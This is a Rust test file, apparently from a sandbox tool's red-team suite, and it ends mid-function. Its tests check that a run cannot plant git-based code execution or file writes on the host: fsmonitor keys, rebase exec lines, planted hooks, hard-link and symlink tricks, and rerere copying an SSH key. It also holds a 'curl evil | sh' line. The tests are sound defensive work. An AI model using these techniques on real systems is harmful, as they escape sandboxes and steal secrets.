/// A code lock's placeholder holds a copy of the config; a config that cannot be copied (over
/// 64 KiB here) gets no lock, refused and reported: an empty placeholder would empty the
/// user's config if the run removed the host's lock and host git committed the run's (red
/// team, issue 32 seventh round: a 106,892-byte config cut to 21 bytes). The run's own `git
/// config` fails there, as its rename over such a config always did. Control: with the config
/// small again the same lock is made.
#[test]
fn a_lock_over_a_config_too_large_to_copy_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::new();
    let config = fx.ws.join(".git/config");
    let small = std::fs::read_to_string(&config).unwrap();
    let mut big = small.clone();
    for i in 0..1500 {
        big.push_str(&format!(
            "[branch \"topic-{i}\"]\n\tremote = origin\n\tmerge = refs/heads/topic-{i}\n"
        ));
    }
    assert!(big.len() > 64 * 1024);
    write_file(&config, &big, 0o644);
    let records = fx.records();
    let lock = "(set -C; : > .git/config.lock) && echo LOCKED";
    let out = fx.attack(&records.opts(), lock).outcome();
    out.assert_failed().assert_lacks("LOCKED");
    records.assert_blocked(&out.run, &[".git/config.lock"]);
    assert_eq!(std::fs::read_to_string(&config).unwrap(), big);
    assert!(!fx.ws.join(".git/config.lock").exists());
    write_file(&config, &small, 0o644);
    fx.attack(&[], lock).outcome().assert_shows("LOCKED");
}

/// The user's own git beside a run stays as the user made it: `git sparse-checkout set` (a
/// new `.git/config.worktree` of inert keys) during a run is not quarantined (red team issue
/// 32, fifth pass: it was, and the repository was left with skip-worktree bits and no
/// sparse checkout).
#[test]
fn the_users_own_git_beside_a_run_is_left_alone() {
    if attacks::not_applicable(&attacks::na::NEW_GIT_FILES_QUARANTINED) {
        return;
    }
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.ws.join("app")).unwrap();
    write_file(&fx.ws.join("app/a.txt"), "a\n", 0o644);
    write_file(&fx.ws.join("b.txt"), "b\n", 0o644);
    fx.git_host(&["add", "-A"]).assert_success();
    fx.git_host(&["commit", "-q", "-m", "files"]);
    let ws = fx.ws.clone();
    let run = beside_a_run(&fx, &[], "sleep 1", move || {
        let done = std::process::Command::new("git")
            .args(["-c", "safe.directory=*", "-C"])
            .arg(&ws)
            .args(["sparse-checkout", "set", "app"])
            .status()
            .expect("run git sparse-checkout");
        assert!(done.success(), "git sparse-checkout failed");
    });
    run.assert_lacks("config.worktree");
    assert!(
        fx.ws.join(".git/config.worktree").is_file(),
        "the user's sparse-checkout config was taken away"
    );
    let quarantined = attacks::quarantined_files(&fx.ws);
    assert!(quarantined.is_empty(), "quarantined: {quarantined:?}");
}

#[test]
fn target_of_a_symlinked_hook_is_protected() {
    let fx = Fixture::new();
    let records = fx.records();
    write_file(
        &fx.ws.join("scripts/pre-commit"),
        "#!/bin/sh\n: checks\n",
        0o755,
    );
    std::os::unix::fs::symlink(
        "../../scripts/pre-commit",
        fx.ws.join(".git/hooks/pre-commit"),
    )
    .unwrap();
    let (script, flag) = fx.tripwire("pwned-hook-target");
    let attack = format!("echo {} >> scripts/pre-commit", script.display());
    fx.attack(&records.opts(), &attack)
        .outcome()
        .assert_failed();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the hook's target was changed");
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: the hook did not run");
}

#[test]
fn everyday_git_rewrites_an_existing_config_and_keeps_its_live_keys() {
    let fx = Fixture::new();
    // A key that runs code, set by the user: it must come through untouched.
    fx.git_host(&["config", "filter.lfs.clean", "git-lfs clean -- %f"])
        .assert_success();
    let remote = fx.root.join("remote.git");
    fx.git_host(&["init", "-q", "--bare", remote.to_str().unwrap()])
        .assert_success();
    let remote_s = remote.display().to_string();
    // A local remote in a writable root: set up by the user (adding one inside the run is
    // refused: a push runs the receiving repository's hooks, which the run could plant).
    fx.git_host(&["remote", "add", "origin", &remote_s])
        .assert_success();
    let script = "set -e
        git config user.name 'Inside'
        git remote add mirror https://example.invalid/x.git
        git push -q -u origin main
        git branch -q topic
        git branch -q -u origin/main topic
        git config pull.rebase true
        git sparse-checkout set app
        git config --get branch.main.remote";
    fx.attack(&["--allow-write", &remote_s], script)
        .outcome()
        .assert_shows("origin");
    let config = read_text(&fx.ws.join(".git/config")).unwrap();
    for want in [
        "name = Inside",
        "[remote \"origin\"]",
        "[remote \"mirror\"]",
        "[branch \"main\"]",
        "merge = refs/heads/main",
        "[branch \"topic\"]",
        "rebase = true",
        "clean = git-lfs clean -- %f",
    ] {
        assert!(config.contains(want), "{want} missing from:\n{config}");
    }
    git_in(
        &fx,
        &fx.ws,
        &["rev-parse", "--abbrev-ref", "main@{upstream}"],
    )
    .assert_stdout_contains("origin/main");
}

#[test]
fn live_config_change_is_refused_and_reported() {
    let fx = Fixture::new();
    let records = fx.records();
    let (script, flag) = fx.tripwire("pwned-config");
    let attack = format!("git config core.fsmonitor {}", script.display());
    let before = read_bytes(&fx.ws.join(".git/config"));
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_failed_if_guarded();
    records.assert_blocked(&run.run, &[".git/config"]);
    assert!(
        run.run.stderr.contains("run nothing"),
        "the refusal says what is allowed:\n{}",
        run.run.stderr
    );
    assert_eq!(read_bytes(&fx.ws.join(".git/config")), before);
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists());
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

/// Found by the red-team pass: git reads on after a header's `]`, so
/// `[remote "x"] [core] fsmonitor = ...` sets `core.fsmonitor`; the inertness check took the
/// whole line for one `remote` header. Refused now, for an existing config's rewrite and for a
/// new repository's config.
#[test]
fn a_live_key_after_a_header_on_the_same_line_is_refused() {
    let fx = Fixture::new();
    let records = fx.records();
    let (script, flag) = fx.tripwire("pwned-header-line");
    let line = format!(
        "printf '[remote \"x\"] [core] fsmonitor = \"{}\" #]\\n'",
        script.display()
    );
    let attack = format!(
        "cat .git/config > .git/config.lock && {line} >> .git/config.lock && mv .git/config.lock .git/config"
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_failed_if_guarded();
    // Refused at the append to the lock it made (a lock of git's is written through the
    // descriptor that made it) or, were that allowed, at the rename.
    records.assert_blocked(&run.run, &[".git/config", ".git/config.lock"]);
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the smuggled fsmonitor ran on the host");
    // A new repository's config, written the way git writes it.
    let fresh = format!(
        "git init -q sub && cd sub && cat .git/config > .git/config.lock && {line} >> .git/config.lock && mv .git/config.lock .git/config"
    );
    fx.attack(&[], &fresh).outcome().assert_failed_if_guarded();
    if fx.ws.join("sub/.git").exists() {
        git_in(&fx, &fx.ws.join("sub"), &["status", "--porcelain"]);
    }
    assert!(
        !flag.exists(),
        "the smuggled fsmonitor of a new repository ran on the host"
    );
    // Control: git does read the key.
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

/// Found by the red-team pass: a push to a local repository runs that repository's hooks on
/// the host, so a remote (or a branch's remote) pointed at a repository in a writable root,
/// where the run can plant hooks, is refused; one elsewhere, or on another machine, is not.
#[test]
fn a_remote_in_a_writable_root_is_refused() {
    let fx = Fixture::new();
    let records = fx.records();
    let (script, flag) = fx.tripwire("pwned-pushurl");
    let plant = format!(
        "git init -q --bare tools/cache && printf '#!/bin/sh\\n{}\\n' > tools/cache/hooks/pre-receive && chmod +x tools/cache/hooks/pre-receive",
        script.display()
    );
    let ws = fx.ws.display().to_string();
    for attack in [
        format!("git config remote.origin.pushurl {ws}/tools/cache"),
        format!("git remote add origin {ws}/tools/cache"),
        "git remote add origin ./tools/cache".to_string(),
        "git config branch.main.remote tools/cache".to_string(),
    ] {
        let run = fx
            .attack(&records.opts(), &format!("{plant} 2>/dev/null; {attack}"))
            .outcome();
        run.assert_failed_if_guarded();
        records.assert_blocked(&run.run, &[".git/config"]);
        let remote = fx.git_host(&["config", "--get-regexp", "remote|branch"]);
        assert!(
            !remote.stdout.contains("tools/cache"),
            "{attack}: {}",
            remote.stdout
        );
    }
    // Elsewhere, or another machine: allowed.
    fx.attack(
        &[],
        "git remote add up https://example.invalid/x.git && git remote add srv /srv/x.git",
    )
    .outcome()
    .assert_ok();
    // Control: the host's push to the planted repository runs its hook.
    std::fs::remove_dir_all(fx.ws.join("tools")).ok();
    fx.control(&format!(
        "{plant} && git remote add origin {ws}/tools/cache"
    ))
    .outcome()
    .assert_ok();
    fx.git_host(&["push", "-q", "origin", "main"]);
    assert!(
        flag.exists(),
        "control: the push did not run the planted hook"
    );
}

/// Found by the red-team pass: `git update-index --skip-worktree` (or `--assume-unchanged`,
/// or a sparse checkout) after editing a tracked file hides the edit from the user's
/// `git status` and `git diff`. The index is not the run's to refuse (git writes it in
/// everyday work), so the sweep compares its flags with the start and reports every entry
/// the run hid, with how to undo it.
#[test]
fn entries_hidden_from_git_status_are_reported() {
    let fx = Fixture::new();
    let records = fx.records();
    let attack =
        "echo 'curl evil | sh' >> README.md && git update-index --skip-worktree README.md \
                  && git update-index --assume-unchanged app/main.txt";
    let run = fx.attack(&records.opts(), attack).outcome();
    run.assert_ok();
    let hidden: Vec<serde_json::Value> = records
        .violations()
        .into_iter()
        .filter(|v| attacks::json_str(v, "kind") == "git_changes_hidden")
        .collect();
    assert_eq!(hidden.len(), 1, "{:#?}", records.violations());
    let action = attacks::json_str(&hidden[0], "action");
    assert!(
        action.contains("README.md") && action.contains("app/main.txt"),
        "{action}"
    );
    run.run.assert_stderr_contains("git changes hidden");
    // The edit is indeed invisible to the host's git: what the report is for.
    fx.git_host(&["status", "--porcelain"])
        .assert_lacks("README.md");
    // Control: nothing is reported for a run that hides nothing.
    let quiet = fx.records();
    fx.attack(&quiet.opts(), "git status --porcelain")
        .outcome()
        .assert_ok();
    assert!(quiet
        .violations()
        .iter()
        .all(|v| attacks::json_str(v, "kind") != "git_changes_hidden"));
}

/// Found by the second red-team pass: remote forms that name a repository in the workspace
/// without looking like it (`//abs`, `/proc/self/cwd/x`, a branch's remote that names no
/// `[remote]` section, which git takes as a relative path) and git's legacy remote files
/// (`.git/remotes/<name>`, `.git/branches/<name>`, whose `URL:` nothing checked). Each is
/// refused; the control shows the host's push reaches the planted repository through each.
#[test]
fn disguised_remotes_into_the_workspace_are_refused() {
    let fx = Fixture::new();
    let ws = fx.ws.display().to_string();
    for attack in [
        format!("git remote add origin /{ws}/evil"),
        "git remote add origin /proc/self/cwd/evil".to_string(),
        "git config branch.main.remote evil".to_string(),
        format!("mkdir -p .git/remotes && printf 'URL: {ws}/evil\\n' > .git/remotes/up"),
        format!("mkdir -p .git/branches && printf '{ws}/evil\\n' > .git/branches/up"),
    ] {
        fx.attack(&[], &attack).outcome().assert_failed_if_guarded();
        let config = fx.git_host(&["config", "--get-regexp", "remote|branch"]);
        config.assert_lacks("evil");
        assert!(!fx.ws.join(".git/remotes/up").exists(), "{attack}");
        assert!(!fx.ws.join(".git/branches/up").exists(), "{attack}");
    }
    // Control: the same steps on the host give git a remote that is the workspace's `evil`.
    fx.control(&format!("git remote add origin /{ws}/evil"))
        .outcome()
        .assert_ok();
    fx.git_host(&["config", "--get", "remote.origin.url"])
        .assert_stdout_contains("evil");
}

/// A second name (hard link) made on the host before the run (`ln .git/config keep`, `cp -al`,
/// `rsync -H`, a backup tool) of a protected, read-only-bound file: the bind covers the path,
/// not the file, so the run would write `core.fsmonitor` through `keep` (and a hook or
/// `.envrc` through theirs) and the host's next `git status` (`git commit`, `direnv`) would
/// run it; the sweep compares paths and does not notice. The run is refused before anything
/// runs (125, `E_PROTECTION_UNAVAILABLE`) naming the file and how to break the link. Red team
/// issue 32 (`second-name-state.sh`, `second-name-envrc.sh`). Control: the same write through
/// the other name on the host reaches the file, and host git runs the fsmonitor. A file whose
/// every name is protected (two hooks of one file) runs.
#[test]
fn a_second_name_of_a_protected_file_refuses_the_run() {
    let cases: &[(&str, &str)] = &[
        (".git/config", "keep"),
        (".git/hooks/pre-commit", "keep-hook"),
        (".envrc", "keep-envrc"),
        ("d/config", "keep-bare"),
    ];
    for (protected, other) in cases {
        let fx = Fixture::new();
        let file = fx.ws.join(protected);
        if protected.starts_with(".git/hooks/") {
            write_file(&file, "#!/bin/sh\nexit 0\n", 0o755);
        } else if *protected == ".envrc" {
            write_file(&file, "export A=1\n", 0o644);
        } else if protected.starts_with("d/") {
            git_in(&fx, &fx.ws, &["init", "-q", "--bare", "d"]).assert_success();
        }
        std::fs::hard_link(&file, fx.ws.join(other)).unwrap();
        let (script, flag) = fx.tripwire("pwned-second-name");
        let attack = format!(
            "printf '[core]\\n\\tfsmonitor = {}\\n' >> {other}",
            script.display()
        );
        let before = read_bytes(&file);
        let run = fx.attack(&[], &attack).run();
        run.assert_code(125);
        run.assert_stderr_contains("E_PROTECTION_UNAVAILABLE");
        run.assert_stderr_contains(&format!(
            "{} is protected (read-only during the run) but has 2 names",
            file.display()
        ));
        run.assert_stderr_contains("another name of this protected file would be writable");
        run.assert_stderr_contains("cp --preserve=all");
        assert_eq!(read_bytes(&file), before, "{protected} changed");
        if *protected == ".git/config" {
            host_git_uses_the_repository(&fx, &fx.ws);
            assert!(!flag.exists(), "the fsmonitor written through keep ran");
        }
        // Breaking the link as the hint says lets runs go on.
        fx.host(&format!(
            "cp --preserve=all {p} {p}.new && mv {p}.new {p}",
            p = protected
        ))
        .run()
        .assert_success();
        fx.attack(&[], "echo ran").outcome().assert_shows("ran");
        // Control: linked again, the write through the other name on the host reaches the
        // protected file.
        std::fs::remove_file(fx.ws.join(other)).unwrap();
        std::fs::hard_link(&file, fx.ws.join(other)).unwrap();
        fx.control(&attack).outcome().assert_ok();
        let after = read_text(&file).unwrap();
        assert!(
            after.contains(&script.display().to_string()),
            "control: {protected} did not change through {other}:\n{after}"
        );
        if *protected == ".git/config" {
            host_git_uses_the_repository(&fx, &fx.ws);
            assert!(flag.exists(), "control: git did not run the fsmonitor");
        }
    }

    // Every name protected: a hook hard-linked to another hook.
    let fx = Fixture::new();
    let hook = fx.ws.join(".git/hooks/pre-commit");
    write_file(&hook, "#!/bin/sh\nexit 0\n", 0o755);
    std::fs::hard_link(&hook, fx.ws.join(".git/hooks/pre-push")).unwrap();
    fx.attack(&[], "echo ran").outcome().assert_shows("ran");
}

/// `git -c user.*=... ARGS` on the host in the workspace, its status checked.
fn git_ok(fx: &Fixture, args: &[&str]) {
    let mut all = vec!["-c", "user.email=h@example.invalid", "-c", "user.name=H"];
    all.extend_from_slice(args);
    fx.git_host(&all).assert_success();
}

/// A rebase the user left stopped on a conflict: `topic` (two commits, the first in conflict
/// with `main`) replayed onto `main`, with the user's own `git rebase -x CMD` when given.
fn stopped_rebase(fx: &Fixture, exec: Option<&str>) {
    write_file(&fx.ws.join("f"), "base\n", 0o644);
    git_ok(fx, &["add", "f"]);
    git_ok(fx, &["commit", "-qm", "base"]);
    git_ok(fx, &["checkout", "-qb", "topic"]);
    write_file(&fx.ws.join("f"), "topic\n", 0o644);
    git_ok(fx, &["commit", "-qam", "topic"]);
    write_file(&fx.ws.join("g"), "second\n", 0o644);
    git_ok(fx, &["add", "g"]);
    git_ok(fx, &["commit", "-qm", "second"]);
    git_ok(fx, &["checkout", "-q", "main"]);
    write_file(&fx.ws.join("f"), "main\n", 0o644);
    git_ok(fx, &["commit", "-qam", "main"]);
    git_ok(fx, &["checkout", "-q", "topic"]);
    let mut rebase = vec!["rebase"];
    if let Some(cmd) = exec {
        rebase.extend(["-x", cmd]);
    }
    rebase.push("main");
    let all: Vec<&str> = ["-c", "user.email=h@example.invalid", "-c", "user.name=H"]
        .into_iter()
        .chain(rebase)
        .collect();
    fx.git_host(&all).assert_failure();
    let todo = fx.ws.join(".git/rebase-merge/git-rebase-todo");
    assert!(todo.is_file(), "the rebase did not stop");
    // Git's own modes: the sandbox runs as another user when the caller is root.
    for dir in [".git/rebase-merge", ".git/rebase-merge/rewritten"] {
        if fx.ws.join(dir).is_dir() {
            attacks::chmod(&fx.ws.join(dir), 0o755);
        }
    }
}

/// The user resolves the conflict and goes on with the rebase on the host.
fn continue_on_the_host(fx: &Fixture, path: Option<&Path>) -> attacks::Run {
    write_file(&fx.ws.join("f"), "resolved\n", 0o644);
    git_ok(fx, &["add", "f"]);
    let path = path.map_or(String::new(), |p| format!("PATH={}:$PATH ", p.display()));
    fx.host(&format!(
        "{path}GIT_EDITOR=true git -c user.email=h@example.invalid -c user.name=H rebase --continue"
    ))
    .run()
}

/// Git's state of a stopped rebase runs what it says when the user goes on (red team issue
/// 32, seventh round): an `exec` line the run appends to the todo list would run on the host
/// at `git rebase --continue`. The sweep quarantines a todo list that gained one, and git
/// stops there instead.
#[test]
fn a_stopped_rebase_gains_no_command_for_the_host() {
    let fx = Fixture::new();
    let records = fx.records();
    stopped_rebase(&fx, None);
    let (script, flag) = fx.tripwire("pwned-rebase-exec");
    let attack = format!(
        "echo 'exec {}' >> .git/rebase-merge/git-rebase-todo",
        script.display()
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/rebase-merge/git-rebase-todo"]);
    continue_on_the_host(&fx, None).assert_failure();
    assert!(!flag.exists(), "the planted exec line ran on the host");
    // Control: the same append on the host, and git runs it.
    let fx2 = Fixture::new();
    stopped_rebase(&fx2, None);
    fx2.control(&attack).outcome().assert_ok();
    continue_on_the_host(&fx2, None).assert_success();
    assert!(flag.exists(), "control: git did not run the exec line");
}

/// The same for the merge strategy a stopped rebase goes on with: a name that is not one of
/// git's own runs `git-merge-<name>` from `PATH` (here, a directory of the user's).
#[test]
fn a_stopped_rebase_gains_no_merge_strategy_for_the_host() {
    let fx = Fixture::new();
    let records = fx.records();
    stopped_rebase(&fx, None);
    let (script, flag) = fx.tripwire("pwned-rebase-strategy");
    let bin = fx.root.join("bin");
    attacks::mkdir(&bin);
    std::os::unix::fs::symlink(&script, bin.join("git-merge-planted")).unwrap();
    let attack = "echo planted > .git/rebase-merge/strategy";
    let run = fx.attack(&records.opts(), attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/rebase-merge/strategy"]);
    continue_on_the_host(&fx, Some(&bin));
    assert!(!flag.exists(), "the planted strategy ran on the host");
    // Control: the same file written on the host, and git runs the strategy.
    let fx2 = Fixture::new();
    stopped_rebase(&fx2, None);
    fx2.control(attack).outcome().assert_ok();
    continue_on_the_host(&fx2, Some(&bin));
    assert!(flag.exists(), "control: git did not run the strategy");
}

/// What a rebase with the user's own `-x` needs: a run that leaves the stopped rebase as it
/// is reports nothing, and a run that resolves the conflict and goes on (running the user's
/// `exec` lines inside the sandbox) finishes the rebase.
#[test]
fn a_run_may_go_on_with_the_users_own_rebase() {
    let fx = Fixture::new();
    let records = fx.records();
    stopped_rebase(&fx, Some("echo ran >> exec.log"));
    let before = read_bytes(&fx.ws.join(".git/rebase-merge/git-rebase-todo"));
    let run = fx.sandbox(&records.opts(), "git status").run();
    run.assert_success();
    records.assert_no_violations(&run);
    assert_eq!(
        read_bytes(&fx.ws.join(".git/rebase-merge/git-rebase-todo")),
        before
    );
    let records = fx.records();
    let run = fx
        .sandbox(
            &records.opts(),
            "echo resolved > f && git add f && GIT_EDITOR=true git rebase --continue",
        )
        .run();
    run.assert_success();
    records.assert_no_violations(&run);
    assert!(
        !fx.ws.join(".git/rebase-merge").exists(),
        "the rebase did not finish"
    );
    assert_eq!(
        read_text(&fx.ws.join("exec.log")).as_deref(),
        Some("ran\nran\n")
    );
}

/// A rebase stopped in a linked worktree outside the workspace (`outside/wt`); its state is
/// in the workspace's `.git/worktrees/wt/rebase-merge`.
fn stopped_rebase_in_a_worktree(fx: &Fixture) -> std::path::PathBuf {
    stopped_rebase(fx, None);
    git_ok(fx, &["rebase", "--abort"]);
    git_ok(fx, &["checkout", "-q", "main"]);
    let wt = fx.outside.join("wt");
    git_ok(
        fx,
        &["worktree", "add", "-q", wt.to_str().unwrap(), "topic"],
    );
    let wt_s = wt.to_str().unwrap();
    let all = [
        "-c",
        "user.email=h@example.invalid",
        "-c",
        "user.name=H",
        "-C",
        wt_s,
    ];
    fx.git_host(&[&all[..], &["rebase", "main"]].concat())
        .assert_failure();
    let state = fx.ws.join(".git/worktrees/wt/rebase-merge");
    assert!(
        state.join("git-rebase-todo").is_file(),
        "the rebase did not stop"
    );
    attacks::chmod(&state, 0o755);
    write_file(&wt.join("f"), "resolved\n", 0o644);
    fx.git_host(&[&all[..], &["add", "f"]].concat())
        .assert_success();
    wt
}

/// A linked worktree keeps its rebase's state in its admin dir in the workspace
/// (`.git/worktrees/<name>/rebase-merge`), wherever the worktree itself lies.
#[test]
fn a_worktrees_stopped_rebase_gains_no_command_for_the_host() {
    let fx = Fixture::new();
    let records = fx.records();
    let wt = stopped_rebase_in_a_worktree(&fx);
    let (script, flag) = fx.tripwire("pwned-worktree-rebase-exec");
    let attack = format!(
        "echo 'exec {}' >> .git/worktrees/wt/rebase-merge/git-rebase-todo",
        script.display()
    );
    let go_on = |wt: &Path| {
        format!(
            "cd {} && GIT_EDITOR=true git -c user.email=h@example.invalid -c user.name=H rebase --continue",
            wt.display()
        )
    };
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(
        &run.run,
        &[".git/worktrees/wt/rebase-merge/git-rebase-todo"],
    );
    fx.host(&go_on(&wt)).run().assert_failure();
    assert!(!flag.exists(), "the planted exec line ran on the host");
    // Control: the same append on the host, and git runs it.
    let fx2 = Fixture::new();
    let wt2 = stopped_rebase_in_a_worktree(&fx2);
    fx2.control(&attack).outcome().assert_ok();
    fx2.host(&go_on(&wt2)).run().assert_success();
    assert!(flag.exists(), "control: git did not run the exec line");
}

/// Options of the strategy a stopped rebase goes on with: git's `resolve` (a shell script)
/// hands them to `git read-tree`, and `--index-output=<file>` writes an index over any file
/// the user can write (red team issue 32, eighth round: root's `authorized_keys`, with a key
/// line in a committed path's name).
#[test]
fn a_stopped_rebase_gains_no_strategy_option_for_the_host() {
    let fx = Fixture::new();
    let records = fx.records();
    stopped_rebase(&fx, None);
    let victim = fx.outside.join("target.txt");
    let attack = format!(
        "echo resolve > .git/rebase-merge/strategy && \
         echo \"'--index-output={}'\" > .git/rebase-merge/strategy_opts",
        victim.display()
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/rebase-merge/strategy_opts"]);
    continue_on_the_host(&fx, None);
    assert_eq!(read_text(&victim).as_deref(), Some("original\n"));
    // Control: the same files written on the host, and git writes over the file.
    let fx2 = Fixture::new();
    stopped_rebase(&fx2, None);
    let victim2 = fx2.outside.join("target.txt");
    fx2.control(&attack.replace(
        &victim.display().to_string(),
        &victim2.display().to_string(),
    ))
    .outcome()
    .assert_ok();
    continue_on_the_host(&fx2, None);
    assert!(
        read_bytes(&victim2).is_some_and(|b| b.starts_with(b"DIRC")),
        "control: git did not write an index over the file"
    );
}

/// A rebase the run started itself, its state reached through a link it made
/// (`.git/rebase-merge -> rm2`): git follows the link, so the link is what the sweep takes out
/// (the no-link quarantine could not move the file behind it).
#[test]
fn a_rebase_state_behind_a_link_is_taken_out_whole() {
    let fx = Fixture::new();
    let records = fx.records();
    stopped_rebase(&fx, None);
    git_ok(&fx, &["rebase", "--abort"]);
    let (script, flag) = fx.tripwire("pwned-linked-rebase-state");
    let attack = format!(
        "git rebase main >/dev/null 2>&1; cp -a .git/rebase-merge .git/rm2 && \
         echo 'exec {}' >> .git/rm2/git-rebase-todo && rm -rf .git/rebase-merge && \
         ln -s rm2 .git/rebase-merge",
        script.display()
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/rebase-merge"]);
    continue_on_the_host(&fx, None);
    assert!(!flag.exists(), "the planted exec line ran on the host");
    // Control: the same on the host, and git runs it.
    let fx2 = Fixture::new();
    stopped_rebase(&fx2, None);
    git_ok(&fx2, &["rebase", "--abort"]);
    fx2.control(&attack).outcome().assert_ok();
    // (Git runs it, then fails to remove the state it reached through the link.)
    continue_on_the_host(&fx2, None);
    assert!(flag.exists(), "control: git did not run the exec line");
}

/// Links the run leaves in a git dir: git opens `COMMIT_EDITMSG` (and the reflogs, rerere's
/// images, ...) for writing by name, following a link, so the user's next commit wrote a host
/// file of the run's choosing (red team issue 32, eighth round). Every link the run made
/// there is taken out.
#[test]
fn links_the_run_leaves_in_a_git_dir_are_taken_out() {
    let fx = Fixture::new();
    let records = fx.records();
    let victim = fx.outside.join("target.txt");
    // A fan-out directory the fixture's commit did not make (its objects' names vary with
    // the fixture's marker: `fe` was one in a CI run, and `ln -s` then made a link inside it).
    let fan = (0..=255u8)
        .rev()
        .map(|b| format!("{b:02x}"))
        .find(|n| !fx.ws.join(".git/objects").join(n).exists())
        .expect("a free fan-out name");
    let attack = format!(
        "ln -sf {v} .git/COMMIT_EDITMSG && mkdir -p .git/rr-cache && ln -s {} .git/rr-cache/0a1b \
         && ln -sf {v} .git/logs/refs/heads/main && git branch objects/x \
         && ln -sf {v} .git/logs/refs/heads/objects/x && mkfifo .git/FETCH_HEAD \
         && ln -s {0} .git/objects/{fan} && mkdir -p .git/objects/pack && ln -s {v} .git/objects/pack/x.pack",
        fx.outside.display(),
        v = victim.display(),
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/COMMIT_EDITMSG"]);
    records.assert_swept(&run.run, &[".git/rr-cache/0a1b"]);
    // (In a directory with no subdirectories, listed because its entries changed; in one
    // named `objects` that is no object store; a FIFO that would hang git.)
    records.assert_swept(&run.run, &[".git/logs/refs/heads/main"]);
    records.assert_swept(&run.run, &[".git/logs/refs/heads/objects/x"]);
    // In the object store: git wrote loose objects into the host directory a fan-out link
    // named (red team, fourth pass).
    records.assert_swept(&run.run, &[format!(".git/objects/{fan}").as_str()]);
    records.assert_swept(&run.run, &[".git/objects/pack/x.pack"]);
    match attacks::backend() {
        // (Under gVisor a FIFO the command makes stays in the Sentry: none on the host.)
        "gvisor" => {}
        // The container engines' run made it in the staged copy of the git dir's top level,
        // which brings back files, links and directories only: the FIFO is left out, said.
        "podman" | "docker" => {
            run.run
                .assert_stderr_contains(".git/FETCH_HEAD was not brought back");
            assert!(fx.ws.join(".git/FETCH_HEAD").symlink_metadata().is_err());
        }
        _ => {
            records.assert_swept(&run.run, &[".git/FETCH_HEAD"]);
        }
    }
    git_ok(
        &fx,
        &["commit", "-q", "--allow-empty", "-m", "the user's message"],
    );
    assert_eq!(read_text(&victim).as_deref(), Some("original\n"));
    // Control: the same link made on the host, and the commit writes through it.
    let link = format!("ln -sf {} .git/COMMIT_EDITMSG", victim.display());
    fx.control(&link).outcome().assert_ok();
    git_ok(
        &fx,
        &["commit", "-q", "--allow-empty", "-m", "the user's message"],
    );
    assert!(
        read_text(&victim).is_some_and(|t| t.contains("the user's message")),
        "control: the commit did not write through the link"
    );
}

/// Rerere's conflicts in progress (`MERGE_RR`, `<id>\t<path>`): the user's next `git commit`
/// records each path's text into `rr-cache`, a path outside the worktree too: a secret the run
/// could not read was copied where the next run could (red team issue 32, eighth round).
#[test]
fn rerere_is_given_no_path_outside_the_worktree() {
    let fx = Fixture::new();
    let records = fx.records();
    let secret = fx.home.join(".ssh/id_rsa");
    let id = "1123456789abcdef0123456789abcdef01234567";
    let attack = format!(
        "mkdir -p .git/rr-cache/{id} && printf '%s\\t%s\\0' {id} {} > .git/MERGE_RR",
        secret.display()
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[".git/MERGE_RR"]);
    let copy = fx.ws.join(format!(".git/rr-cache/{id}/postimage"));
    write_file(&fx.ws.join("README.md"), "changed\n", 0o644);
    git_ok(&fx, &["commit", "-q", "-am", "the user's commit"]);
    assert!(
        !copy.exists(),
        "rerere copied the secret into the workspace"
    );
    // Control: the same files made on the host, and the commit copies the secret.
    fx.control(&attack).outcome().assert_ok();
    write_file(&fx.ws.join("README.md"), "changed again\n", 0o644);
    git_ok(&fx, &["commit", "-q", "-am", "the user's commit"]);
    assert_eq!(
        read_bytes(&copy),
        read_bytes(&secret),
        "control: rerere copied nothing"
    );
}

/// Links one run leaves where nothing looks (the object store) and the next moves into place
/// inside a directory: a link keeps its ctime through the move, but the directory it moved
/// with does not (red team issue 32, eighth round, third pass: rerere wrote a host file at the
/// user's commit).
#[test]
fn links_moved_into_a_git_dir_by_a_later_run_are_taken_out() {
    let fx = Fixture::new();
    let victim = fx.outside.join("target.txt");
    let id = "0123456789abcdef0123456789abcdef01234567";
    let plant = format!(
        "mkdir -p .git/objects/zz/R && ln -s {} .git/objects/zz/R/thisimage",
        victim.display()
    );
    let records = fx.records();
    fx.attack(&records.opts(), &plant).outcome().assert_ok();
    assert!(
        fx.ws.join(".git/objects/zz/R/thisimage").is_symlink(),
        "the first run's link in the object store is gone: the test proves nothing"
    );
    // A second run, its start strictly after the first run's link.
    std::thread::sleep(std::time::Duration::from_millis(20));
    let records = fx.records();
    let move_in = format!("mkdir -p .git/rr-cache && mv .git/objects/zz/R .git/rr-cache/{id}");
    let run = fx.attack(&records.opts(), &move_in).outcome();
    run.assert_ok();
    records.assert_swept(&run.run, &[&format!(".git/rr-cache/{id}/thisimage")]);
}

/// A repository the run makes needs neither a config nor hooks for git to use it, and was
/// not looked at without them (red team issue 32, eighth round, fourth pass).
#[test]
fn a_repository_made_without_config_or_hooks_is_looked_at_too() {
    // The run's (or the control's) commands in a fixture, and the user's commit afterwards.
    let attack = |fx: &Fixture| {
        format!(
